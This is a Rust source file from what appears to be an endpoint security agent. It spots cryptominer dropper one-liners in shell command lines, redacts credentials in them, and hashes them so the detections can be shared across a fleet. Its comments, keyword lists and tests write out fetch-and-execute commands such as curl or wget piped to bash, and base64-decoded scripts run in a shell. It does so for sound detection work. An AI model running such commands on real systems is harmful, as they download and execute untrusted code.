//! A dropper's one-liner: the `sh -c '…'` that fetched or decoded a miner
//! and ran it (`curl -fsSL http://x/i.sh | bash`, `wget -qO- … | sh`,
//! `echo … | base64 -d | bash`). Trojans reuse the same one-liner across
//! every host they reach, with the miner renamed each time; so a collector
//! that saw it start a confirmed miner teaches its SHA-256 to the fleet.
//!
//! The agent and the collector compute the same thing: the shell's `-c`
//! script, URLs redacted ([`crate::redact::redact_cmdline`]: no credentials
//! leave the host), at most [`MAX_BYTES`] (else none), and only when it looks like a
//! dropper ([`looks_like_dropper`]: something fetched or decoded, and
//! something run) — never an ordinary `sh -c 'exec ./start.sh'`, which a
//! compromised agent could otherwise teach to mark every container.

use sha2::{Digest, Sha256};

/// Longest script taken (droppers are short; a longer script is left out,
/// never cut, so both sides hash the same text).
pub const MAX_BYTES: usize = 1024;

const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "busybox"];
const FETCH: &[&str] = &[
    "curl",
    "wget",
    "base64",
    "/dev/tcp/",
    "fetch ",
    "python -c",
    "python3 -c",
    "perl -e",
    "xxd -r",
];
const RUN: &[&str] = &[
    "|sh", "| sh", "|bash", "| bash", "chmod", "nohup", "exec ", "./", "| /bin/", "|/bin/", "setsid", "sh -",
];

/// The `-c` script of a shell's argv (`sh -c SCRIPT`, `bash -lc SCRIPT`,
/// `busybox -c SCRIPT`), redacted, when it looks like a dropper and is at
/// most [`MAX_BYTES`].
pub fn of_argv(argv: &[String]) -> Option<String> {
    let base = |s: &str| s.rsplit('/').next().unwrap_or(s).trim_start_matches('-').to_string();
    let shell = base(argv.first()?);
    if !SHELLS.contains(&shell.as_str()) {
        return None;
    }
    // the first option word holding `c`, then its script
    let at = argv
        .iter()
        .skip(1)
        .take(4)
        .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))?;
    let script = argv.get(at + 2)?;
    let s = crate::redact::redact_cmdline(script.trim());
    (s.len() <= MAX_BYTES && looks_like_dropper(&s)).then_some(s)
}

/// Something fetched or decoded, and something run; 16 bytes at least.
pub fn looks_like_dropper(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    l.len() >= 16 && FETCH.iter().any(|f| l.contains(f)) && RUN.iter().any(|r| l.contains(r))
}

/// The one-liner's SHA-256, hex.
pub fn sha256_hex(s: &str) -> String {
    hex::encode(Sha256::digest(s.as_bytes()))
}

/// The same, as bytes (for hash rules).
pub fn sha256(s: &str) -> [u8; 32] {
    Sha256::digest(s.as_bytes()).into()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn droppers_are_kept_and_ordinary_shells_are_not() {
        let s = of_argv(&argv(&["/bin/sh", "-c", "curl -fsSL http://u:pw@203.0.113.9/i.sh | bash"])).unwrap();
        assert_eq!(s, "curl -fsSL http://203.0.113.9/i.sh | bash", "credentials redacted");
        assert!(of_argv(&argv(&["bash", "-lc", "echo aGVsbG8= | base64 -d | bash"])).is_some());
        assert!(of_argv(&argv(&["busybox", "-c", "wget -qO- http://x/m | sh"])).is_some());
        for benign in [
            &["sh", "-c", "exec ./start.sh"][..],
            &["sh", "-c", "make -j4 && make install"],
            &["bash", "script.sh"],
            &["python3", "-c", "import urllib; curl | sh"],
            &["sh", "-c"],
        ] {
            assert_eq!(of_argv(&argv(benign)), None, "{benign:?}");
        }
        let long = format!("curl http://x/{} | sh", "é".repeat(2000));
        assert_eq!(of_argv(&argv(&["sh", "-c", &long])), None, "past the cap: left out, not cut");
        assert_eq!(sha256_hex("a"), "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb");
    }
}
